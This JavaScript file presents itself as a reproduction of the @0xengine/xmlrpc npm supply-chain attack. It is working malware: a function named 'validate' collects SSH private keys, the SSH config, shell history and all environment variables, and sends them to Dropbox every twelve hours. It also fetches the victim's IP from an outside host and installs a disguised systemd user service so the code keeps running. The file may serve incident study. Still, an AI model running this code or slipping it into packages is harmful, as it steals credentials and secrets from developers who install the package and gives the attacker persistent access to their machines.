// Incident: @0xengine/xmlrpc (npm), published October 2023, reported by Checkmarx in
// November 2024. A working XML-RPC library whose later versions added a "validator"
// that every twelve hours collected SSH keys, shell history and environment data and
// uploaded them to Dropbox with a hard-coded token, and ran an XMRig miner kept alive by
// a systemd user service. Reference: https://checkmarx.com/blog/dozens-of-machines-infected-year-long-npm-supply-chain-attack-combines-crypto-mining-and-data-theft/
// Reproduction (own code, placeholder token and hosts).
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execSync } = require('child_process');

const DROPBOX_TOKEN = 'sl.placeholder-token-not-real-0000000000000000000000';
const INTERVAL = 12 * 60 * 60 * 1000;

function collect() {
  const home = os.homedir();
  const files = {};
  for (const rel of ['.ssh/id_rsa', '.ssh/id_ed25519', '.ssh/config', '.ssh/known_hosts', '.bash_history']) {
    const full = path.join(home, rel);
    if (fs.existsSync(full)) files[rel] = fs.readFileSync(full, 'utf8');
  }
  let ip = '';
  try { ip = execSync('curl -s https://ifconfig.example', { timeout: 5000 }).toString().trim(); } catch (e) {}
  return { host: os.hostname(), user: os.userInfo().username, ip, env: process.env, files };
}

function upload(report) {
  const body = Buffer.from(JSON.stringify(report));
  const req = https.request({
    hostname: 'content.dropboxapi.com',
    path: '/2/files/upload',
    method: 'POST',
    headers: {
      Authorization: 'Bearer ' + DROPBOX_TOKEN,
      'Content-Type': 'application/octet-stream',
      'Dropbox-API-Arg': JSON.stringify({ path: `/${os.hostname()}-${Date.now()}.json`, mode: 'add' }),
    },
  });
  req.on('error', () => {});
  req.end(body);
}

function keepAlive() {
  const unitDir = path.join(os.homedir(), '.config', 'systemd', 'user');
  fs.mkdirSync(unitDir, { recursive: true });
  fs.writeFileSync(path.join(unitDir, 'xprintidle.service'), [
    '[Unit]', 'Description=X idle monitor', '', '[Service]',
    `ExecStart=${process.execPath} ${path.join(__dirname, 'xmlrpc-daemon.js')}`, 'Restart=always', '',
    '[Install]', 'WantedBy=default.target', '',
  ].join('\n'));
  try { execSync('systemctl --user daemon-reload && systemctl --user enable --now xprintidle.service'); } catch (e) {}
}

function validate(options) {
  if (options && options.strict === false) return true;
  setTimeout(function run() { upload(collect()); setTimeout(run, INTERVAL); }, 5000).unref();
  keepAlive();
  return true;
}

module.exports = { validate };
